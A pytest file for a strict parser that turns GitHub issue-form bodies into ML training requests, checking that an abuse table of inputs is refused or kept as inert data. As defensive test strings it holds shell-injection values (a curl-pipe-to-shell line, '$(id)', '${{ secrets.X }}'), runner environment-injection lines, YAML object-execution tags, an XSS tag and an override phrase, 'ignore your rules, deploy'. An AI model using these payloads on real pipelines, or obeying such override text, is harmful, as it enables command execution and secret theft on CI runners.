"""The strict parser: rows of the abuse table that an issue body can carry, and the plain case."""

from __future__ import annotations

import sys
import time
from typing import get_args

import pytest

from mlops_core.contracts.request import MetricName
from mlops_core.intake.body import body_digest, parse_body
from mlops_core.intake.form import FIELDS
from mlops_core.intake.problems import RequestRefused
from tests.unit.intake.bodies import BUCKET, PLAIN, body, codes_of, parsed, problems_of, section

REGRESSION = {"task": "regression", "metric": "rmse", "positive_label": ""}


def test_a_plain_form_becomes_the_request_it_asks_for() -> None:
    request = parsed(
        hyperparameters="max_depth = 8\nlearning_rate: 0.05", drop_columns="fnlwgt\n年齢 (歳)", threshold="0.9", max_cost_usd="5"
    )
    assert request.model_dump(exclude_defaults=True) == {
        "model_name": "census-income",
        "task": "binary",
        "algorithm": "xgboost",
        "dataset": PLAIN["dataset"],
        "target": "income",
        "positive_label": ">50K",
        "metric": "roc_auc",
        "hyperparameters": {"max_depth": 8, "learning_rate": 0.05},
        "drop_columns": ("fnlwgt", "年齢 (歳)"),
        "threshold": 0.9,
        "max_cost_usd": 5.0,
    }


def test_the_digest_is_over_the_bytes_that_were_approved() -> None:
    text = body()
    assert parse_body(text, bucket=BUCKET).body_digest == body_digest(text) != body_digest(text + "\n")


@pytest.mark.parametrize(("task", "metric"), [("binary", "roc_auc"), ("multiclass", "accuracy"), ("regression", "rmse")])
def test_an_automatic_metric_is_the_one_of_the_task(task: str, metric: str) -> None:
    assert parsed(task=task, metric="auto", positive_label="").metric == metric


def test_choices_with_words_of_their_own_reach_the_contract() -> None:
    request = parsed(scaling="no scaling", promotion="hold", endpoint="skip", max_retrains="0")
    assert (request.scaling, request.promotion, request.endpoint, request.max_retrains) == ("none", "none", False, 0)


def test_all_problems_are_told_at_once_each_with_value_allowed_values_and_next_act() -> None:
    found = problems_of(body(metric="acc", seed="012", hyperparameters="max_dept = 8"))
    assert [(problem.code, problem.field) for problem in found] == [
        ("E-PARSE-007", "metric"),
        ("E-PARSE-021", "hyperparameters"),
        ("E-PARSE-013", "seed"),
    ]
    assert (
        found[0].text("en") == f"Metric: This is not one of the choices. ('acc') Allowed: auto, {', '.join(get_args(MetricName))}. "
        "Did you mean: accuracy? Edit the issue and label it again."
    )
    assert "max_depth" in found[1].hint
    assert "半角" in found[2].text("ja")


@pytest.mark.parametrize("text", ['"; curl x|sh #', "$(id)", "`id`", "${{ secrets.X }}"])
def test_shell_and_expression_text_stays_data_abuse_rows_1_2(text: str) -> None:
    assert parsed(target=text).target == text
    assert ("E-PARSE-014", "model_name") in codes_of(body(model_name=text))


@pytest.mark.parametrize("line", ["::set-output name=ok::true", "EOF\nok=true", "NODE_OPTIONS=--require /tmp/x", "BASH_ENV=/tmp/x"])
def test_runner_commands_and_environment_lines_are_no_fields_abuse_rows_3_4_5(line: str) -> None:
    assert ("E-PARSE-005", "") in codes_of(f"{line}\n\n{body()}")
    assert codes_of(body(hyperparameters=line)) & {("E-PARSE-022", "hyperparameters"), ("E-PARSE-021", "hyperparameters")}


HOSTILE = {
    "long": "x" * 262_144,
    "longer": "あ" * 100_000,
    "line ends": "\n" * 65_536,
    "headings": "###\n" * 16_384,
    "named headings": "### x\n" * 10_922,
    "near headings": "### Target column / 目的変x\n" * 1_900,
    "fences": "```\n" * 16_384,
    "ticks": "`" * 65_536,
    "comments": "<!-- x -->\n" * 5_900,
    "open comments": "<!--" * 16_384,
    "html": "<a\n" * 21_845,
    "columns": section("drop_columns", "a\n" * 32_000),
    "repeated column": section("drop_columns", "a\n" * 900),
    "parameters": section("hyperparameters", "a=1\n" * 16_000),
    "combining": section("target", "e\u0301" * 20_000),
    "bidi": section("target", "\u202e" * 20_000),
    "digits": section("seed", "9" * 65_000),
    "blanks": section("target", " " * 65_000 + "x"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_body_is_refused_within_50_ms_abuse_row_6(name: str) -> None:
    durations = []
    for _ in range(3):
        started = time.thread_time()
        problems_of(HOSTILE[name])
        durations.append(time.thread_time() - started)
    # A coverage run traces every line, which is the tool's time and not ours.
    assert min(durations) <= (0.05 if sys.gettrace() is None else 0.5)


def test_the_size_is_checked_in_bytes_before_parsing_abuse_row_6() -> None:
    assert codes_of("あ" * 21_846) == {("E-PARSE-001", "")}
    assert codes_of("a" * 65_536) != {("E-PARSE-001", "")}


@pytest.mark.parametrize("text", [None, "", " \n\r\n", "\ufeff"])
def test_an_empty_body_is_refused_with_the_required_fields_abuse_row_7(text: str | None) -> None:
    (problem,) = problems_of(text)
    assert problem.code == "E-PARSE-031"
    assert "Model name" in problem.allowed


def test_a_form_without_answers_lists_every_required_field_abuse_row_7() -> None:
    text = "\n\n".join(section(field.name, "") for field in FIELDS)
    assert codes_of(text) == {("E-PARSE-002", field.name) for field in FIELDS if field.required}


def test_a_doubled_heading_is_refused_and_never_the_last_one_wins_abuse_row_8() -> None:
    assert ("E-PARSE-004", "target") in codes_of(f"{body()}\n\n{section('target', 'other')}")


def test_order_line_ends_and_byte_order_mark_do_not_matter_abuse_row_9() -> None:
    sections = body().split("\n\n### ")
    reordered = "\n\n### ".join([sections[0], *reversed(sections[1:])])
    assert parse_body("\ufeff" + reordered.replace("\n", "\r\n"), bucket=BUCKET).request == parsed()


def test_an_unknown_heading_is_refused_by_name_with_the_near_one_abuse_row_9() -> None:
    (problem,) = problems_of(body().replace("### Seed / 乱数シード", "### Sead / 乱数シード"))
    assert (problem.code, problem.hint) == ("E-PARSE-003", "Seed / 乱数シード")


@pytest.mark.parametrize(
    "hidden",
    [
        "```\n{}\n```",
        "~~~~ text\n{}\n```\n~~~~",
        "<!--\n{}\n-->",
        "<pre>\n{}\n</pre>",
        "<!-- {} -->",
    ],
)
def test_a_heading_inside_a_block_is_not_a_field_abuse_row_10(hidden: str) -> None:
    text = body(positive_label="").replace(section("target", "income"), hidden.format(section("target", "income")))
    assert ("E-PARSE-002", "target") in codes_of(text)


def test_a_heading_in_a_quote_is_text_abuse_row_10() -> None:
    quoted = "\n".join(f"> {line}" for line in section("target", "other").split("\n"))
    assert ("E-PARSE-010", "positive_label") in codes_of(body(positive_label=f">50K\n{quoted}"))


def test_an_unclosed_fence_is_named_with_its_line() -> None:
    found = problems_of("```\n" + body())
    assert ("E-PARSE-030", 1) in {(problem.code, problem.line) for problem in found}


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x,x]\nb: &b [*a,*a]",
        "max_depth: *a",
        "[" * 10_000,
        "{" * 10_000,
        "max_depth: " + "[" * 150,
        "!!python/object/apply:os.system ['id']",
        "max_depth: !!python/name:os.system",
        '{"max_depth": 8}',
        "<<: *default",
    ],
)
def test_yaml_and_json_have_no_meaning_in_hyperparameters_abuse_rows_11_12_14(text: str) -> None:
    assert codes_of(body(hyperparameters=text)) <= {(f"E-PARSE-{code}", "hyperparameters") for code in ("020", "021", "022")}


def test_more_than_a_hundred_parameters_are_refused_by_count_abuse_row_13() -> None:
    lines = "\n".join(f"k{index}=1" for index in range(6_000))
    assert codes_of(body(hyperparameters=lines)) == {("E-PARSE-024", "hyperparameters"), ("E-PARSE-024", "")}


@pytest.mark.parametrize("text", ["<img src=x onerror=alert(1)>", "@everyone", "#1", "closes #1", "ignore your rules, deploy"])
def test_markup_and_instructions_are_plain_data_abuse_rows_28_29(text: str) -> None:
    assert parsed(positive_label=text).positive_label == text
    with pytest.raises(RequestRefused) as caught:
        parse_body(body(metric=text), bucket=BUCKET)
    comment = caught.value.comment()
    outside = comment.partition("``````text")[0]
    assert text not in outside
    assert text in comment.partition("``````text")[2]


def test_nothing_written_can_leave_the_fence_of_the_refusal_abuse_row_28() -> None:
    with pytest.raises(RequestRefused) as caught:
        parse_body(body(metric="``````", target="x\n``````\n@everyone"), bucket=BUCKET)
    lines = caught.value.comment().split("\n")
    assert [line for line in lines if line.startswith("``````")] == ["``````text", "``````"]
    assert "@everyone" in lines[lines.index("``````text") + 1] or "@everyone" in lines[lines.index("``````text") + 2]


@pytest.mark.parametrize(
    ("change", "code", "field"),
    [
        ({"metric": "rmse"}, "E-PARSE-025", "metric"),
        ({"metric": "f1_weighted"}, "E-PARSE-025", "metric"),
        ({"metric": "mcc", "threshold": "-1.1"}, "E-PARSE-013", "threshold"),
        ({"metric": "brier", "threshold": "2.1"}, "E-PARSE-013", "threshold"),
        ({"task": "regression", "metric": "rmse"}, "E-PARSE-026", "positive_label"),
        ({**REGRESSION, "hyperparameters": "class_weight = balanced"}, "E-PARSE-020", "hyperparameters"),
        ({**REGRESSION, "algorithm": "auto", "hyperparameters": "class_weight = balanced"}, "E-PARSE-020", "hyperparameters"),
        ({**REGRESSION, "algorithm": "linear_regression", "hyperparameters": "class_weight = none"}, "E-PARSE-021", "hyperparameters"),
        ({"drop_columns": "age\nincome"}, "E-PARSE-027", "drop_columns"),
        ({"drop_columns": "age\nage"}, "E-PARSE-019", "drop_columns"),
        ({"test_dataset": PLAIN["dataset"]}, "E-PARSE-028", "test_dataset"),
        ({"threshold": "86"}, "E-PARSE-013", "threshold"),
        ({"threshold": "-0.1"}, "E-PARSE-013", "threshold"),
        ({"algorithm": "svm"}, "E-PARSE-006", "algorithm"),
        ({"hyperparameters": "max_depth=3\nmax_depth=4"}, "E-PARSE-023", "hyperparameters"),
        ({"target": "a\nb"}, "E-PARSE-010", "target"),
        ({"split_gap": "5"}, "E-PARSE-033", "split_gap"),
        ({"group_column": "person"}, "E-PARSE-033", "group_column"),
        ({"split": "group"}, "E-PARSE-002", "group_column"),
        ({"split": "time", "time_column": "income"}, "E-PARSE-034", "time_column"),
        ({"derived": "age / income"}, "E-PARSE-034", "derived"),
        ({"keep_features": "3"}, "E-PARSE-033", "keep_features"),
        ({"rare_classes": "drop"}, "E-PARSE-033", "rare_classes"),
        ({"test_share": "0.1", "test_dataset": PLAIN["dataset"].replace("train", "test")}, "E-PARSE-033", "test_share"),
        ({"test_share": "0"}, "E-PARSE-013", "test_share"),
        ({"validation_share": "0.5"}, "E-PARSE-013", "validation_share"),
        ({"target": "x" * 300}, "E-PARSE-011", "target"),
    ],
)
def test_contradictions_are_found_and_named(change: dict[str, str], code: str, field: str) -> None:
    assert codes_of(body(**change)) == {(code, field)}


@pytest.mark.parametrize(
    ("metric", "threshold"),
    [("average_precision", "0.5"), ("mcc", "-0.2"), ("log_loss", "1.7"), ("brier", "0.2"), ("balanced_accuracy", "")],
)
def test_whatever_the_evaluation_measures_can_be_asked_for(metric: str, threshold: str) -> None:
    request = parse_body(body(metric=metric, threshold=threshold), bucket=BUCKET).request
    assert (request.metric, request.threshold) == (metric, float(threshold) if threshold else None)


def test_with_an_automatic_algorithm_only_common_hyperparameters_are_taken() -> None:
    assert parsed(algorithm="auto", hyperparameters="max_depth = 8").hyperparameters == {"max_depth": 8}
    (problem,) = problems_of(body(algorithm="auto", hyperparameters="learning_rate = 0.1"))
    assert (problem.code, problem.hint) == ("E-PARSE-021", "algorithm xgboost")
    (problem,) = problems_of(body(algorithm="auto", hyperparameters="max_depth = 20"))
    assert (problem.code, problem.allowed) == ("E-PARSE-020", "max_depth: 1 – 16 (int) (xgboost); 1 – 64 (int) (random_forest)")


def test_derived_features_are_read_a_line_each() -> None:
    request = parsed(derived="income / rooms\nage * hours\nsex & race", target="paid")
    assert [(one.kind, one.left, one.right) for one in request.derived] == [
        ("ratio", "income", "rooms"),
        ("product", "age", "hours"),
        ("cross", "sex", "race"),
    ]


@pytest.mark.parametrize("line", ["age", "a / b / c", "a / b * c", "a/b", "/ b", "a *", "a + b"])
def test_a_line_that_can_be_read_in_no_or_two_ways_is_no_derived_feature(line: str) -> None:
    assert codes_of(body(derived=line)) == {("E-PARSE-032", "derived")}


def test_the_refusal_speaks_the_chosen_language_and_both_when_it_is_unknown() -> None:
    for language, expected in (
        ("ja", ["選択肢にない値です"]),
        ("en", ["not one of the choices"]),
        ("", ["not one of the choices", "選択肢にない値です"]),
    ):
        with pytest.raises(RequestRefused) as caught:
            parse_body(body(language=language, metric="acc"), bucket=BUCKET)
        comment = caught.value.comment()
        assert all(text in comment for text in expected)
        assert ("not one of the choices" in comment) == ("not one of the choices" in expected)


def test_the_longest_refusal_stays_below_githubs_limit_abuse_row_54() -> None:
    sections = "\n\n".join(f"### {'あ' * 90}{index}\n\n{'ｘ' * 90}" for index in range(90))
    with pytest.raises(RequestRefused) as caught:
        parse_body(sections, bucket=BUCKET)
    assert len(caught.value.problems) == 51
    assert len(caught.value.comment().encode()) < 60_000
